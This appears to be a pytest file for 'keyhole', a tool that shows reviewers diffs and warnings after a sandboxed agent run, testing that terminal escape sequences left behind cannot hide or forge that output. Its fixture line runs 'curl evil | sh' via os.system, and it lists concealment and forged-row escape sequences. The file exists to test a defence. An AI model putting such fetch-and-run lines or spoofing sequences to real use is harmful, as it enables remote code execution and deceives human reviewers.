"""What an agent leaves in a terminal neither hides nor forges what keyhole says there afterwards."""

import os
import subprocess

import pytest
from conftest import PATIENCE, PYTHON, USER
from test_review import Review
from test_run import Run
from tmux import RESET, Tmux

pytestmark = [pytest.mark.identity("user"), pytest.mark.before_the_engine]

LEFT = {
    "no tabulator stops": "\x1b[3g",
    "no automatic wrap": "\x1b[3g\x1b[?7l",
    "concealed": "\x1b[8m",
    "black on black": "\x1b[30;40m",
    "line drawing": "\x1b(0",
    "shifted to line drawing": "\x1b)0\x0e",
    "an open link": "\x1b]8;;https://a.test/\x1b\\",
    "a screen that is inverted": "\x1b[?5h",
    "keys with texts": "\x1bP0;1|17/6869\x1b\\\x1b[?67h\x1b]22;none\x1b\\",
    "a folder for new windows": "\x1b]7;file:///tmp/evil\x1b\\",
    "insertion": "\x1b[4h",
    "a scrolling region": "\x1b[38;40r",
    "the other screen": "\x1b[?1049h",
    "an unfinished title": "\x1b]2;",
    "an unfinished string": "\x1bPq",
    "an unfinished sequence": "\x1b[",
    "forged rows after the cursor": "\x1b[s" + "\r\n   + forged" * 20 + "\x1b[u",
}
CODE = "hi = 1\t; __import__('os').system('curl evil | sh')" + " " * 20 + "# and more that is seen\n"


@pytest.fixture
def review(sandbox):
    return Review(sandbox)


@pytest.fixture
def tmux(sandbox, review):
    one = Tmux(sandbox, review.run_, review.work)
    yield one
    one.close()


def words(review, *args):
    return [review.run_.keyhole, "run", "-q", "--use", "anthropic", *args]


def rows_of(shown, first):
    """From the last row that is this one."""
    at = len(shown) - 1 - shown[::-1].index(first)
    return shown[at:]


def folded(row):
    """Between words, if there is a word before."""
    blank = row.rfind(" ", 0, 80) + 1
    end = len(row) if len(row) <= 80 else blank if row[3:blank].strip() else 80
    return [row[:end].rstrip(), *(folded(" > " + row[end:]) if end < len(row) else [])]


EXPECTED = ["M  x", "   @@ -1 +1 @@", "   -hi", *folded("   +" + ("    " + CODE.rstrip("\n")).expandtabs(8)[4:])]


@pytest.mark.parametrize("left", list(LEFT.values()), ids=[name.replace(" ", "-") for name in LEFT])
def test_a_diff_is_shown_whole_whatever_is_left_in_the_terminal(tmux, review, left):
    """As after a run whose launcher was killed: nobody has set anything back."""
    review.file("x", "hi\n")
    review.python(f"open('x', 'w').write({CODE!r})")
    tmux.shell([PYTHON, "-c", f"import sys; sys.stdout.write({left!r})"], [review.run_.keyhole, "workspace", "diff"])
    shown = tmux.shown()
    assert "M  x" in shown, shown
    assert rows_of(shown, "M  x")[:len(EXPECTED)] == EXPECTED
    assert not any("forged" in row for row in rows_of(shown, "M  x"))
    attributes = "\n".join(tmux.shown("-e"))
    assert "\x1b[8m" not in attributes and "\x1b[30m" not in attributes


@pytest.mark.parametrize("left", list(LEFT.values()), ids=[name.replace(" ", "-") for name in LEFT])
def test_what_keyhole_says_after_a_run_is_seen_whatever_the_command_left(tmux, review, left):
    script = f"import os, sys; os.makedirs('r/.idea'); sys.stdout.write({left!r})"
    tmux.shell(words(review, "--workspace", review.work, "--", PYTHON, "-I", "-c", script))
    text = "\n".join(tmux.shown())
    assert "was set aside" in text.replace("\n > ", ""), text
    said = [row for row in tmux.shown("-e") if "set aside" in row]
    assert said and not any("\x1b[8" in row or "\x1b[30" in row for row in said)


@pytest.mark.parametrize("stdin", [True, False], ids=["in-a-terminal-of-its-own", "on-the-callers-terminal"])
def test_a_terminal_that_a_command_had_is_set_back_before_keyhole_speaks(sandbox, stdin):
    run = Run(sandbox)
    work = sandbox.folder("work")
    seen = on_a_pty(run, ["-q", "--workspace", work, "--", "sh", "-c", "mkdir -p r/.idea; printf 'end\\033[8m'"], stdin=stdin)
    before, after = seen.split(b"end\x1b[8m")
    assert RESET not in before and after.startswith(RESET)
    assert b"keyhole: warn:" in after and after.rindex(RESET) < after.index(b"keyhole: warn:")


def test_no_long_name_goes_on_as_a_line_of_keyholes_in_a_warning(tmux, review):
    """The terminal would break the line, and the rest of the name would begin in the first column."""
    forged = "keyhole: warn: nothing was set aside"
    before = len(f"keyhole: warn: {review.work}/")
    script = f"import os\nfor n in range(70, 83):\n  os.makedirs(('n' * (n - {before}) + {forged!r}).replace('/', '_') + '/.idea')"
    tmux.shell(words(review, "--workspace", review.work, "--", PYTHON, "-I", "-c", script))
    shown = tmux.shown("-S", "-")
    assert not any(row.startswith("keyhole: warn: nothing") for row in shown), shown
    assert len([row for row in shown if row.startswith(" > ")]) >= 13 and all(len(row) <= 80 for row in shown)


def on_a_pty(run, args, stdin=True, **more):
    """All that a terminal gets, whose controlling end is ours."""
    ours, theirs = os.openpty()
    if os.geteuid() == 0:
        os.fchown(theirs, USER, USER)
    process = subprocess.Popen(run.command(*args), stdin=theirs if stdin else subprocess.DEVNULL, stdout=theirs, stderr=theirs,
                               env=run.environment(**more), cwd="/", start_new_session=True)  # fmt: skip
    os.close(theirs)
    seen = b""
    try:
        while more := os.read(ours, 65536):
            seen += more
    except OSError:  # how a terminal ends
        pass
    os.close(ours)
    assert process.wait(PATIENCE) == 0, seen
    return seen


def test_a_terminal_that_knows_no_sequences_gets_none(sandbox):
    run = Run(sandbox)
    assert b"\x1b" not in on_a_pty(run, ["-q", "--", "true"], TERM="dumb")


def test_where_there_is_no_terminal_nothing_is_set_back(review):
    review.file("x", "hi\n")
    done = review.python(f"open('x', 'w').write({CODE!r})", quiet=False)
    shown = review.diff()
    assert "\x1b" not in done.stdout + done.stderr + shown and "\x18" not in shown
    assert "   +" + CODE in shown
